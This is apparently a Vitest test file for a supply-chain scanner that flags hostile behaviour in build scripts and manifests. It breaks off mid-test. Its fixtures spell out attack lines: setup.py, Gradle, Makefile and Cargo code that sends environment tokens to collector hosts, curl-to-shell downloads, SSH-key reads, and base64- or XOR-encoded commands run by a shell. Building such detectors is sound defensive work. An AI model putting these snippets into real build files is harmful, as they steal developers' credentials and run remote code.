import { describe, expect, it } from 'vitest';
import { readBehaviors } from '../../../src/ecosystems/build-code/behaviors.js';
import type { BuildLanguage } from '../../../src/ecosystems/build-code/behaviors.js';
import { readCallBehaviors } from '../../../src/ecosystems/build-code/build-calls.js';
import { filesRunBy, installManifestsWanted, workspaceManifestsWanted } from '../../../src/ecosystems/build-code/build-files.js';
import type { SnapshotFile } from '../../../src/snapshot/pr-snapshot.js';
import { makeFile } from '../../support/snapshot-factory.js';
import { analyze, change, pkg, snapshotOf } from '../../support/supply-chain-snapshot.js';

/** A file the PR adds, with its whole text as the patch. */
function added(path: string, text: string): SnapshotFile {
  const lines = text.replace(/^\n/, '').split('\n');
  return makeFile(path, { status: 'added', additions: lines.length, patch: `@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}`).join('\n')}` });
}

function buildFinding(...files: Parameters<typeof snapshotOf>) {
  return analyze(snapshotOf(...files)).findings.find((f) => f.id === 'build-code-behavior') ?? null;
}

const kinds = (text: string, language: BuildLanguage): string[] => [...new Set(readBehaviors(text.split('\n').map((t, i) => ({ line: i + 1, text: t })), language).map((b) => b.kind))].sort();

describe('readBehaviors', () => {
  it('reads downloads, process calls, credential stores, the environment and sends in each language', () => {
    expect(kinds('let body = reqwest::blocking::get(url)?.bytes()?;\nCommand::new(&path).status()?;', 'rust')).toEqual(['download', 'execute']);
    expect(kinds('data = dict(os.environ)\nrequests.post("https://collector.example/x", json=data)', 'python')).toEqual(['environment', 'send']);
    expect(kinds('key = open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'python')).toEqual(['credential-file']);
    expect(kinds("const token = execSync('gh auth token').toString();", 'js')).toEqual(['credential-file', 'execute']);
    expect(kinds('TOKEN=$(gcloud auth print-access-token)', 'shell')).toContain('credential-file');
    expect(kinds('gh auth status', 'shell')).toEqual([]);
    // git's stored credentials read (not its other settings, nor a helper's name); a CLI's token given to its own service is not a theft.
    expect(kinds('\t@git config --get-regexp "credential|token" | curl -s -d @- https://hooks.lintcheck.dev/c', 'shell')).toEqual(['credential-file', 'download', 'send']);
    expect(kinds('\tprintf "host=github.com\\n\\n" | git credential-store get', 'shell')).toEqual(['credential-file']);
    expect(kinds('\tgit config user.email\n\tgit config --get credential.helper', 'shell')).toEqual([]);
    expect(kinds('\tcurl -s -H "Authorization: token $$(gh auth token)" https://api.github.com/repos/acme/x/releases -d @release.json', 'shell')).toEqual(['download', 'send']);
    expect(kinds('\tcurl -s -H "Authorization: token $$(gh auth token)" https://uploads.lintcheck.dev/r -d @release.json', 'shell')).toEqual(['credential-file', 'download', 'send']);
    // Every developer tool's credential helper is a credential store (credential-helpers.ts), its token given to its own service is not a theft.
    expect(kinds('\tcurl -s "https://c.lintcheck.dev/?t=$$(npm config get //registry.npmjs.org/:_authToken)"', 'shell')).toEqual(['credential-file', 'download']);
    expect(kinds("key = subprocess.check_output(['aws', 'configure', 'get', 'aws_secret_access_key'])\nkey = os.popen('aws configure get aws_secret_access_key').read()", 'python')).toContain('credential-file');
    expect(kinds('\taws ecr get-login-password --region us-east-1 | docker login --username AWS --password-stdin 123456789012.dkr.ecr.us-east-1.amazonaws.com', 'shell')).toEqual([]);
    expect(kinds('\taws ecr get-login-password --region us-east-1 | docker login --username AWS --password-stdin registry.lintcheck.dev', 'shell')).toEqual(['credential-file']);
    expect(kinds('\tcurl -s -H "Authorization: Bearer $$(npm config get //registry.npmjs.org/:_authToken)" https://registry.npmjs.org/-/whoami', 'shell')).toEqual(['download']);
    // The variables named like secrets picked and their values sent, on one line or across a recipe's continued lines.
    expect(kinds('\tfor v in $$(compgen -e | grep -i token); do curl -s "https://c.evil-sink.dev/?$$v=$${!v}"; done', 'shell')).toEqual(['download', 'environment', 'send']);
    expect(kinds('\t@for v in $$(compgen -e | grep -i token); do \\\n\t  echo "$$v=$${!v}" >> /tmp/o; \\\n\tdone; \\\n\tcurl -s -T /tmp/o https://c.evil-sink.dev/u', 'shell')).toEqual(['download', 'environment', 'send']);
    expect(kinds('\tcompgen -e | grep -i token\n\tcurl -fsSL https://c.evil-sink.dev/x -o x', 'shell')).toEqual(['download']);
    expect(kinds('echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" >> ~/.npmrc', 'shell')).toContain('credential-file-write');
    expect(kinds("with open(os.path.expanduser('~/.pypirc'), 'w') as f:", 'python')).toEqual(['credential-file-write']);
    expect(kinds("config = open(os.path.expanduser('~/.pypirc')).read()", 'python')).toEqual(['credential-file']);
    expect(kinds('cat ~/.npmrc > leak.txt', 'shell')).toEqual(['credential-file']);
    expect(kinds('system("curl -sL https://example.com/tool -o /tmp/tool && chmod +x /tmp/tool && /tmp/tool")', 'ruby')).toEqual(['download', 'execute']);
    expect(kinds("tasks.register<Exec>(\"fetch\") { commandLine(\"sh\", \"-c\", \"curl http://203.0.113.9/x | sh\") }", 'java')).toEqual(['download', 'execute', 'suspicious-host']);
    expect(kinds('<get src="https://example.com/agent.jar" dest="target/agent.jar"/>', 'xml')).toEqual(['download']);
    expect(kinds("apply from: 'https://raw.githubusercontent.com/someone/gradle-scripts/main/common.gradle'", 'java')).toEqual(['download', 'execute']);
    expect(kinds("apply(from = \"gradle/common.gradle.kts\")", 'java')).toEqual([]);
    expect(kinds('const token = process.env.NPM_TOKEN;', 'js')).toEqual(['credential-env']);
    expect(kinds('subprocess.Popen(["./assets/logo.png", "--daemon"])', 'python')).toEqual(['disguised-binary', 'execute']);
    expect(kinds('chmod +x fonts/roboto.woff2', 'shell')).toEqual(['disguised-binary', 'execute']);
    expect(kinds('<exec executable="${project.build.directory}/logo.png"/>', 'xml')).toEqual(['disguised-binary', 'execute']);
  });

  it('leaves ordinary build work alone: compilers, env lookups, comments, converted images', () => {
    expect(kinds('let out = std::env::var("OUT_DIR").unwrap();\ncc::Build::new().file("src/x.c").compile("x");', 'rust')).toEqual([]);
    expect(kinds('// curl https://example.com is how we used to fetch it', 'rust')).toEqual([]);
    expect(kinds('subprocess.run(["convert", "icon.png", "icon.ico"], check=True)', 'python')).toEqual(['execute']);
    expect(kinds('os.environ["CFLAGS"] = "-O2"', 'python')).toEqual([]);
    expect(kinds('chmod 644 README.md', 'shell')).toEqual([]);
    expect(kinds('  s.description = "A curl-like HTTP client; wget compatible"', 'ruby')).toEqual([]);
    expect(kinds('version = file("version.txt").readText().trim()', 'java')).toEqual([]);
  });

  it('reads curl and wget as tools, not as a host, a header path or words in an Autoconf message', () => {
    expect(kinds('  PKG_MAINTAINER=https://curl.se/', 'shell')).toEqual([]);
    expect(kinds('AC_CHECK_HEADERS([curl/curl.h])', 'shell')).toEqual([]);
    expect(kinds('  AC_MSG_CHECKING([whether to enable curl debug features (for developing curl)])', 'shell')).toEqual([]);
    expect(kinds('AS_HELP_STRING([--disable-wget],[Do not fetch the data with wget (default)]),', 'shell')).toEqual([]);
    // The tools themselves, a path to them, and a message that runs a command substitution still count.
    expect(kinds('  curl -fsSL -o data.tar.gz https://example.org/data.tar.gz', 'shell')).toEqual(['download']);
    expect(kinds('  /usr/bin/wget -q https://example.org/x', 'shell')).toEqual(['download']);
    expect(kinds('  curl.exe -o x.zip https://example.org/x.zip', 'shell')).toEqual(['download']);
    expect(kinds('  AC_MSG_CHECKING([for $(curl -s https://example.org/x | sh)])', 'shell')).toEqual(expect.arrayContaining(['download']));
    expect(buildFinding(added('m4/x-opts.m4', 'AC_DEFUN([X_CHECK_OPTION_DEBUG], [\n  AC_MSG_CHECKING([whether to enable curl debug features])\n  AC_MSG_RESULT([no (see https://curl.se/docs/)])\n])'))).toBeNull();
  });

  it('names the files an npm install script runs, beside its package.json', () => {
    expect(filesRunBy('node ./scripts/postinstall.js && sh tools/setup.sh', 'packages/cli/package.json')).toEqual(['packages/cli/scripts/postinstall.js', 'packages/cli/tools/setup.sh']);
    expect(filesRunBy('node-gyp rebuild', 'package.json')).toEqual([]);
    // Node resolves a path without an extension to its .js file (sharp's `install: node install/check`).
    expect(filesRunBy('node install/check', 'package.json')).toEqual(['install/check.js']);
    expect(filesRunBy('node --no-warnings ./scripts/postinstall || true', 'package.json')).toEqual(['scripts/postinstall.js']);
    expect(filesRunBy('node -e "process.exit(0)" && npx only-allow pnpm', 'package.json')).toEqual([]);
  });
});

describe('build-code-behavior', () => {
  it('reports a Cargo build script that downloads and runs a binary', () => {
    const finding = buildFinding(
      added(
        'build.rs',
        `
use std::process::Command;
fn main() {
    let bin = reqwest::blocking::get("https://github.com/someone/tools/releases/download/v1/helper").unwrap().bytes().unwrap();
    std::fs::write("helper", &bin).unwrap();
    Command::new("./helper").status().unwrap();
}`,
      ),
    );
    expect(finding).toMatchObject({ severity: 'high', line: 3, title: 'Cargo build script downloads and runs code at compile time' });
  });

  it('reports a setup.py whose cmdclass posts the environment (critical), and not one that only compiles', () => {
    const finding = buildFinding(
      added(
        'setup.py',
        `
import os, json, urllib.request
from setuptools import setup
from setuptools.command.install import install
class PostInstall(install):
    def run(self):
        install.run(self)
        payload = json.dumps(dict(os.environ)).encode()
        urllib.request.urlopen("https://telemetry.example.net/i", payload)
setup(name="pkg", cmdclass={"install": PostInstall})`,
      ),
    );
    expect(finding).toMatchObject({ severity: 'critical', title: 'setup.py sends credentials or the environment to a host at install time', line: 7 });
    expect(
      buildFinding(
        added(
          'setup.py',
          `
import os
from setuptools import setup, Extension
os.environ.setdefault("CFLAGS", "-O2")
setup(name="pkg", ext_modules=[Extension("pkg._speedups", ["src/speedups.c"])])`,
        ),
      ),
    ).toBeNull();
  });

  it('reads a secret put into the URL a build script fetches as sent: a GET carries its query (critical, as a POST body is)', () => {
    const gradle = buildFinding(added('build.gradle.kts', 'tasks.register("prepare") {\n    doLast {\n        java.net.URL("https://collect.buildstats.dev/x?k=" + System.getenv("SIGNING_KEY")).readText()\n    }\n}'));
    expect(gradle).toMatchObject({ severity: 'critical', line: 3, title: 'Gradle build script sends credentials or the environment to a host at build time' });
    expect(buildFinding(added('setup.py', 'import os\nimport urllib.request\nfrom setuptools import setup\nurllib.request.urlopen(f"https://stats.pkgmetrics.net/i?t={os.environ[\'NPM_TOKEN\']}")\nsetup(name="x")'))).toMatchObject({ severity: 'critical', line: 4 });
    expect(buildFinding(added('Makefile', 'build:\n\tgo build ./...\n\tcurl -s "https://collector.telemetry-hub.org/?k=$(AWS_SECRET_ACCESS_KEY)" >/dev/null'))).toMatchObject({ severity: 'critical', line: 3 });
  });

  it('reads a secret held by a name of an earlier line and put into the URL a build script fetches as sent (critical)', () => {
    expect(buildFinding(added('setup.py', 'import os\nimport urllib.request\nfrom setuptools import setup\ntoken = os.environ["NPM_TOKEN"]\nname = "x"\nurllib.request.urlopen(f"https://stats.pkgmetrics.net/c?t={token}")\nsetup(name=name)'))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('build.gradle', 'def tok = System.getenv("GITHUB_TOKEN")\ndef base = "x"\nnew URL("https://collect.buildstats.dev/p?k=${tok}").text'))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('build.rs', 'fn main() {\n    let key = std::env::var("AWS_SECRET_ACCESS_KEY").unwrap_or_default();\n    let _ = std::process::Command::new("curl").arg(format!("https://collect.buildstats.dev/k?v={}", key)).status();\n}'))).toMatchObject({ severity: 'critical' });
    // Through a name assigned from it, and through a URL built with it and fetched on a later line.
    expect(buildFinding(added('setup.py', 'import base64, os, urllib.request\ntoken = os.environ["PYPI_TOKEN"]\nenc = base64.b64encode(token.encode()).decode()\nurl = "https://stats.pkgmetrics.net/c?t=%s" % enc\nurllib.request.urlopen(url)'))).toMatchObject({ severity: 'critical' });
  });

  it('reads a URL built with a held secret and given by its name to a request call (fetch(url), http.Get(u)) as the secret sent (critical)', () => {
    const withScript = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/setup.js' } }));
    expect(buildFinding(withScript, added('scripts/setup.js', "const token = process.env.API_TOKEN || '';\nconst url = `https://telemetry.tinted-tools.com/i?k=${token}`;\nfetch(url).catch(() => {});"))).toMatchObject({ severity: 'critical', path: 'scripts/setup.js' });
    expect(kinds('const url = `https://telemetry.tinted-tools.com/i?k=${process.env.API_TOKEN}`;\nawait axios.get(url);', 'js')).toEqual(['credential-env', 'download', 'send']);
    expect(kinds('\tkey := os.Getenv("DEPLOY_SECRET")\n\tu := fmt.Sprintf("https://gen.tinted-tools.com/?k=%s", key)\n\thttp.Get(u)', 'go')).toEqual(['credential-env', 'download', 'send']);
  });

  it('a URL name that holds no secret, or holds a token for its own service, given to a request call is not a secret sent', () => {
    expect(kinds("const name = process.env.npm_package_name;\nconst url = `https://registry.npmjs.org/${name}`;\nfetch(url).catch(() => {});", 'js')).toEqual([]);
    expect(kinds('const url = `https://api.github.com/repos/acme/x/releases?access_token=${process.env.GITHUB_TOKEN}`;\nfetch(url);', 'js')).toEqual([]);
    expect(kinds("const token = process.env.NPM_TOKEN;\nconst url = 'https://registry.npmjs.org/-/whoami';\nfetch(url, { headers: { authorization: `Bearer ${token}` } });", 'js')).toEqual(['credential-env']);
  });

  it('a held secret sent to its own service, as a header, to a local host, or a name no secret is given, is not a secret sent', () => {
    const setup = (body: string) => buildFinding(added('setup.py', `import os, urllib.request\n${body}`));
    expect(setup('token = os.environ["GITHUB_TOKEN"]\nurllib.request.urlopen(f"https://api.github.com/repos/acme/x/releases?access_token={token}")')).toMatchObject({ severity: 'medium' });
    expect(setup('t = os.environ["NPM_TOKEN"]\nurllib.request.urlretrieve("https://cdn.sdkhost.io/sdk.tgz?t=1", "sdk.tgz")')).toMatchObject({ severity: 'medium' });
    expect(setup('version = os.environ.get("SDK_VERSION", "1")\nurllib.request.urlretrieve(f"https://cdn.sdkhost.io/sdk-{version}.tgz", "sdk.tgz")')).toMatchObject({ severity: 'medium' });
    expect(setup('token = os.environ["NPM_TOKEN"]\nurllib.request.urlopen(f"http://localhost:4873/-/whoami?t={token}")')).toMatchObject({ severity: 'medium' });
    expect(setup('name = "NPM_TOKEN"\nurllib.request.urlopen(f"https://docs.tools.io/env/{name}")')).toMatchObject({ severity: 'medium' });
    expect(buildFinding(added('build.gradle', 'def tok = System.getenv("MAVEN_TOKEN")\nnew URL("https://repo.acme-mirror.io/x.jar").openConnection().setRequestProperty("Authorization", "Bearer ${tok}")'))).toMatchObject({ severity: 'medium' });
  });

  it('a token in the URL of its own service, in a header, to a local host, or a variable that is no secret, is not a secret sent', () => {
    expect(buildFinding(added('Makefile', 'vendor:\n\tcurl -fsSL -o x.sh "https://raw.githubusercontent.com/acme/private/main/x.sh?token=$(GITHUB_TOKEN)"'))).toBeNull();
    expect(buildFinding(added('Makefile', 'fetch:\n\tcurl -fsSL -H "PRIVATE-TOKEN: $(CI_JOB_TOKEN)" "https://gitlab.acme.io/api/v4/projects/1/packages/generic/x/1.0/x.tgz" -o x.tgz'))).toBeNull();
    expect(buildFinding(added('Makefile', 'smoke:\n\tcurl -s "http://localhost:8080/health?token=$(ADMIN_TOKEN)"'))).toBeNull();
    expect(buildFinding(added('Makefile', 'dl:\n\tcurl -fsSL https://dl.tools.io/t.tgz -o $(OUT_DIR)/t.tgz && echo $(BUILD_TOKEN) > /dev/null'))).toBeNull();
    expect(buildFinding(added('build.gradle.kts', 'val rel = java.net.URL("https://api.github.com/repos/acme/x/releases?access_token=" + System.getenv("GH_TOKEN")).readText()'))).toMatchObject({ severity: 'medium' });
    expect(buildFinding(added('setup.py', 'import os\nimport urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve("https://downloads.vendorsdk.com/sdk.tgz?v=" + os.environ.get("SDK_VERSION", "1"), "sdk.tgz")\nsetup(name="x")'))).toMatchObject({ severity: 'medium' });
  });

  it('reports an extconf.rb that curls a binary and runs it, and not a plain mkmf one', () => {
    expect(
      buildFinding(
        added(
          'ext/fastjson/extconf.rb',
          `
require "mkmf"
system("curl -fsSL https://cdn.example.org/libfast.so -o /tmp/libfast.so")
system("/tmp/libfast.so --install")
create_makefile("fastjson/fastjson")`,
        ),
      ),
    ).toMatchObject({ severity: 'high', title: 'Ruby native-extension script downloads and runs code at gem install time' });
    expect(buildFinding(added('ext/fastjson/extconf.rb', 'require "mkmf"\nhave_library("z")\ncreate_makefile("fastjson/fastjson")'))).toBeNull();
  });

  it("reads Cargo's configuration (.cargo/config.toml, .cargo/config): a runner or wrapper that pipes a download into a shell is high; ordinary settings are not", () => {
    expect(buildFinding(added('.cargo/config.toml', '[target.x86_64-unknown-linux-gnu]\nrunner = "sh -c \'curl -s https://crate-tools.dev/r | sh; exec \\\\"$0\\\\" \\\\"$@\\\\"\'"'))).toMatchObject({ severity: 'high', title: expect.stringContaining('Cargo configuration') });
    expect(buildFinding(added('.cargo/config', '[build]\nrustc-wrapper = "bash -c \'wget -qO- https://crate-tools.dev/w | bash\'"'))).toMatchObject({ severity: 'high' });
    expect(buildFinding(added('.cargo/config.toml', '[alias]\nxtask = "run --package xtask --"\n\n[registries.internal]\nindex = "sparse+https://crates.internal-corp.dev/index/"\n\n[target.thumbv7em-none-eabihf]\nrunner = "probe-rs run --chip STM32F411CEUx"\nrustflags = ["-C", "link-arg=-Tlink.x"]'))).toBeNull();
    expect(buildFinding(added('docs/config.toml', 'runner = "sh -c \'curl -s https://crate-tools.dev/r | sh\'"'))).toBeNull();
  });

  it("reads a gem's extension Rakefile (ext/Rakefile, ext/<name>/Rakefile) as install-time code, and a project's own Rakefile as a task", () => {
    expect(buildFinding(added('ext/Rakefile', "task :default do\n  sh 'curl -s https://gem-assets-cdn.dev/r | sh'\nend"))).toMatchObject({ severity: 'high', title: expect.stringContaining('Ruby native-extension Rakefile') });
    expect(buildFinding(added('ext/fastjson/Rakefile', 'task :default do\n  system("curl -fsSL https://gem-assets-cdn.dev/libfast.so -o /tmp/libfast.so")\n  system("/tmp/libfast.so --install")\nend'))).toMatchObject({ severity: 'high' });
    expect(buildFinding(added('ext/fastjson/Rakefile', "task :default do\n  sh 'make -C fastjson'\nend"))).toBeNull();
    expect(buildFinding(added('Rakefile', "task :release do\n  sh 'gem build fastjson.gemspec'\nend"))?.severity ?? null).not.toBe('high');
  });

  it('reads manifests that are programs: a Gemfile, a Podfile, conanfile.py, a Dangerfile', () => {
    const gemfile = buildFinding(makeFile('Gemfile', { patch: "@@ -1,2 +1,4 @@\n source 'https://rubygems.org'\n gem 'rails', '~> 7.1'\n+system('curl -s https://assets-cdn.trycloudflare.com/s | sh')\n+gem 'rubocop', require: false" }));
    expect(gemfile).toMatchObject({ severity: 'critical', line: 3 });
    expect(gemfile?.title).toContain('Gemfile');
    expect(buildFinding(added('ios/Podfile', "platform :ios, '15.0'\ntarget 'App' do\n  `curl -sL https://example.com/tool -o /tmp/t && chmod +x /tmp/t && /tmp/t`\nend"))).toMatchObject({ severity: 'high' });
    expect(buildFinding(added('conanfile.py', 'from conan import ConanFile\nimport os, requests\nrequests.post("https://collector.example/c", json=dict(os.environ))\nclass Pkg(ConanFile):\n    name = "pkg"'))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('dangerfile.ts', "import { danger, warn } from 'danger';\nfetch('https://webhook.site/x', { method: 'POST', body: process.env.DANGER_GITHUB_API_TOKEN });"))).not.toBeNull();
  });

  it('reads Ruby eval of downloaded text and Kotlin downloads and processes as a download that is run', () => {
    expect(kinds("eval(URI.open('https://cdn.tooling-mirror.dev/r.rb').read)", 'ruby')).toEqual(['download', 'execute']);
    expect(kinds("instance_eval(Net::HTTP.get(URI('https://cdn.tooling-mirror.dev/r.rb')))", 'ruby')).toEqual(['download', 'execute']);
    expect(kinds('val script = URI("https://cdn.tooling-mirror.dev/g.sh").toURL().readText()', 'java')).toEqual(['download']);
    expect(kinds('ProcessBuilder("sh", "-c", script).inheritIO().start().waitFor()', 'java')).toEqual(['execute']);
    const gemfile = buildFinding(makeFile('Gemfile', { patch: "@@ -1,2 +1,4 @@\n source 'https://rubygems.org'\n gem 'rails', '~> 7.1'\n+require 'open-uri'\n+eval(URI.open('https://cdn.tooling-mirror.dev/r.rb').read)" }));
    expect(gemfile).toMatchObject({ severity: 'high', line: 4 });
    expect(buildFinding(added('build.gradle.kts', 'plugins { java }\nval script = URI("https://cdn.tooling-mirror.dev/g.sh").toURL().readText()\nProcessBuilder("sh", "-c", script).inheritIO().start().waitFor()'))).toMatchObject({ severity: 'high' });
  });

  it('is quiet on a block given to instance_eval, eval_gemfile, a repository URI and a local process', () => {
    expect(kinds('instance_eval(&block)', 'ruby')).toEqual([]);
    expect(kinds("eval_gemfile 'Gemfile.local' if File.exist?('Gemfile.local')", 'ruby')).toEqual([]);
    expect(kinds('maven { url = URI("https://repo.acme.dev/maven") }', 'java')).toEqual([]);
    expect(buildFinding(added('build.gradle.kts', 'plugins { java }\nrepositories { maven { url = URI("https://repo.acme.dev/maven") } }\nval sha = ProcessBuilder("git", "rev-parse", "HEAD").start().inputStream.reader().readText().trim()'))?.severity ?? null).not.toBe('high');
  });

  it('is quiet on the ordinary lines of those manifests', () => {
    expect(buildFinding(added('Gemfile', "source 'https://rubygems.org'\nruby '3.3.6'\ngem 'rails', '~> 7.2'\ngem 'pg', '~> 1.5'\ngroup :development do\n  gem 'rubocop', require: false\nend\ngem 'secret_gem', git: 'https://github.com/acme/secret_gem.git', branch: 'main'\ngemspec\neval_gemfile 'Gemfile.local' if File.exist?('Gemfile.local')"))).toBeNull();
    expect(buildFinding(added('Podfile', "platform :ios, '15.0'\nuse_frameworks!\ntarget 'App' do\n  pod 'Alamofire', '~> 5.9'\nend\npost_install do |installer|\n  installer.pods_project.targets.each { |t| t.build_configurations.each { |c| c.build_settings['IPHONEOS_DEPLOYMENT_TARGET'] = '15.0' } }\nend"))).toBeNull();
    expect(buildFinding(added('Dangerfile', "warn('Big PR') if git.lines_of_code > 500\nfail('Please add a changelog entry') unless git.modified_files.include?('CHANGELOG.md')"))).toBeNull();
    expect(buildFinding(added('conanfile.py', 'from conan import ConanFile\nfrom conan.tools.cmake import CMake\nclass Pkg(ConanFile):\n    requires = "zlib/1.3.1"\n    def build(self):\n        cmake = CMake(self)\n        cmake.configure()\n        cmake.build()'))).toBeNull();
  });

  it('reads program build code that runs what it decoded as critical, through a process module loaded by name too', () => {
    const B64 = '"Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkvcCB8IHNo"';
    expect(buildFinding(added('setup.py', `import base64, os\nfrom setuptools import setup\nos.system(base64.b64decode(${B64}).decode())\nsetup(name="x")`))).toMatchObject({ severity: 'critical', line: 3, title: 'setup.py decodes data and runs it at install time' });
    expect(buildFinding(added('setup.py', `import base64\nfrom setuptools import setup\n__import__("os").system(base64.b64decode(${B64}).decode())\nsetup(name="x")`))).toMatchObject({ severity: 'critical' });
    // Decoded on one line, run through a name on another.
    expect(buildFinding(added('setup.py', `import base64, subprocess\nfrom setuptools import setup\ncmd = base64.b64decode(${B64})\nsubprocess.Popen(cmd, shell=True)\nsetup(name="x")`))).toMatchObject({ severity: 'critical', line: 4 });
    expect(kinds(`eval(Buffer.from(${B64}, 'base64').toString())`, 'js')).toEqual(['run-decoded']);
    expect(kinds('system(Base64.decode64(ENV["X"]))', 'ruby')).toEqual(['execute', 'run-decoded']);
    // eval reached under a name joined from pieces, in a file an install script runs.
    expect(kinds("globalThis['ev' + 'al'](Buffer.from(blob, 'base64').toString());", 'js')).toEqual(['execute', 'run-decoded']);
    // A process module loaded by name runs the command it is given: here a download.
    expect(buildFinding(added('setup.py', 'from setuptools import setup\n__import__("os").system("curl -s https://tools.example.net/p -o /tmp/p && sh /tmp/p")\nsetup(name="x")'))).toMatchObject({ severity: 'high' });
  });

  it('decoding data for a build step, or passing a decoded key to a tool as an argument, is no decoded program run', () => {
    // An icon embedded as base64 written out, and the project's own generator run.
    expect(buildFinding(added('setup.py', 'import base64, subprocess\nfrom setuptools import setup\nicon = base64.b64decode(ICON_B64)\nopen("pkg/icon.png", "wb").write(icon)\nsubprocess.check_call(["python", "tools/gen_version.py"])\nsetup(name="x")'))).toBeNull();
    // A signing key decoded and handed to the signing tool: the key is an argument, not the command.
    expect(kinds('const key = Buffer.from(process.env.SIGNING_KEY_B64, "base64");\nexecFileSync("codesign", ["--key", key, "dist/app"]);', 'js')).not.toContain('run-decoded');
    expect(kinds('exec(open("src/pkg/__about__.py").read(), about)', 'python')).not.toContain('run-decoded');
    // Unpacking with a decompressor is ordinary build work.
    expect(kinds('data = zlib.decompress(raw)\nsubprocess.run(["tar", "xf", "vendor.tar"])', 'python')).not.toContain('run-decoded');
  });

  it('reads decoded text given to a shell as its script across lines: XORed bytes, base64 then String, in build.rs, setup.py, Gradle and binding.gyp, as critical', () => {
    // A byte array XORed back into text, handed to `sh -c` by a builder chain rustfmt splits over lines.
    const xorRs = 'use std::process::Command;\nfn main() {\n    let data: [u8; 6] = [0x2f, 0x39, 0x3e, 0x20, 0x6c, 0x61];\n    let cmd: String = data.iter().map(|b| (b ^ 0x4c) as char).collect();\n    Command::new("sh")\n        .arg("-c")\n        .arg(&cmd)\n        .status()\n        .unwrap();\n}';
    expect(buildFinding(added('build.rs', xorRs))).toMatchObject({ severity: 'critical', line: 7 });
    // The bytes pushed one by one in a loop.
    expect(kinds('let mut out = String::new();\nfor b in ENC.iter() { out.push((b ^ KEY) as char); }\nstd::process::Command::new("bash").args(["-c", &out]).output().unwrap();', 'rust')).toContain('run-decoded');
    // base64 decoded, turned into a String on a later line, then run.
    expect(kinds('let bytes = STANDARD.decode(PAYLOAD).unwrap();\nlet script = String::from_utf8(bytes).unwrap();\nCommand::new("sh").arg("-c").arg(script).spawn().unwrap();', 'rust')).toContain('run-decoded');
    expect(buildFinding(added('setup.py', 'import subprocess\nfrom setuptools import setup\ncmd = "".join(chr(c ^ 23) for c in DATA)\nsubprocess.run(["sh", "-c", cmd])\nsetup(name="x")'))).toMatchObject({ severity: 'critical', line: 4 });
    expect(buildFinding(added('build.gradle', 'plugins { id "java" }\ndef c = new String(P.decodeBase64())\n["sh", "-c", c].execute()'))).toMatchObject({ severity: 'critical', line: 3 });
    expect(buildFinding(added('build.gradle.kts', 'val c = String(java.util.Base64.getDecoder().decode(P))\nProcessBuilder("sh", "-c", c).start()'))).toMatchObject({ severity: 'critical', line: 2 });
    // A binding.gyp action whose inline Node program decodes and runs.
    expect(kinds(`"action": ["node", "-e", "require('child_process').execSync(Buffer.from('${'Y3VybCAtcyBo'.repeat(3)}', 'base64').toString())"]`, 'gyp')).toContain('run-decoded');
  });

  it('a shell given a literal script, a decoded value given to another tool, or decoded data beside a shell run, is no decoded script run', () => {
    const quiet = 'use std::process::Command;\nfn main() {\n    let out = Command::new("sh").arg("-c").arg(format!("pkg-config --libs {}", LIB)).output().unwrap();\n    let sum: u32 = out.stdout.iter().fold(0, |a, b| a ^ (*b as u32));\n    Command::new("git").args(["rev-parse", "--short", "HEAD"]).output().unwrap();\n}';
    expect(kinds(quiet, 'rust')).not.toContain('run-decoded');
    expect(kinds('let key = STANDARD.decode(SIGN_KEY).unwrap();\nstd::fs::write("key.asc", &key).unwrap();\nCommand::new("gpg").arg("--import").arg(&key).status().unwrap();', 'rust')).not.toContain('run-decoded');
    // The decoded name assigned after the shell's call, in the same few lines, is no use of it.
    expect(buildFinding(added('build.gradle', 'def gitHash = ["sh", "-c", "git rev-parse --short HEAD"].execute().text.trim()\ndef props = new String("a2V5PXZhbHVl".decodeBase64())\nversion = "1.0-${gitHash}"'))).toBeNull();
    expect(kinds('logo = base64.b64decode(LOGO)\nversion = subprocess.check_output(["sh", "-c", "git describe --tags"]).decode()', 'python')).not.toContain('run-decoded');
    expect(kinds(`"include_dirs": ["<!(node -e \\"require('nan')\\")"]`, 'gyp')).not.toContain('run-decoded');
  });

  it('reads a native library of the package loaded at install time (ctypes in setup.py, process.dlopen, rundll32 given a list) as high', () => {
    expect(buildFinding(added('setup.py', "import ctypes, os, sys\nfrom setuptools import setup\nif sys.platform == 'win32':\n    ctypes.WinDLL(os.path.join(os.path.dirname(__file__), 'tidy', 'libs', 'helper.dll')).Start()\nsetup(name='tidy')"))).toMatchObject({ severity: 'high', line: 4, title: 'setup.py loads a native library that ships with it at install time' });
    expect(buildFinding(added('setup.py', "import subprocess\nfrom setuptools import setup\nsubprocess.Popen(['rundll32', 'tidy\\\\libs\\\\helper.dll,Start'])\nsetup(name='tidy')"))).toMatchObject({ severity: 'high', line: 3 });
    expect(kinds("spawn('rundll32', [path.join(__dirname, 'node-gyp.dll') + ',main'], { detached: true });", 'js')).toContain('native-load');
    expect(kinds("try { process.dlopen(m, path.join(__dirname, 'bin', os.platform() + '.node')); } catch {}", 'js')).toEqual(['native-load']);
  });

  it("a library of the system loaded by name to probe the machine, or Windows' own DLL run by rundll32, is no native library of the package", () => {
    expect(buildFinding(added('setup.py', "import ctypes, ctypes.util\nfrom setuptools import setup\ntry:\n    ctypes.CDLL('libcuda.so.1')\n    gpu = True\nexcept OSError:\n    gpu = ctypes.util.find_library('cuda') is not None\nsetup(name='tidy')"))).toBeNull();
    expect(kinds("subprocess.run(['rundll32', 'printui.dll,PrintUIEntry', '/il'])", 'python')).not.toContain('native-load');
    expect(kinds('regsvr32 /s "$(TargetPath)"', 'shell')).not.toContain('native-load');
  });

  it('reads exec of downloaded text in setup.py as running it (critical from a paste host); exec of the version file alone is ordinary', () => {
    expect(buildFinding(added('setup.py', 'from setuptools import setup\nimport urllib.request\nexec(urllib.request.urlopen("https://pastebin.com/raw/abc").read())\nsetup(name="x")'))).toMatchObject({ severity: 'critical' });
    expect(buildFinding(added('setup.py', 'from setuptools import setup\nabout = {}\nexec(open("src/pkg/__about__.py").read(), about)\nsetup(name="pkg", version=about["__version__"])'))).toBeNull();
  });

  it('reads a gemspec that reads SSH keys', () => {
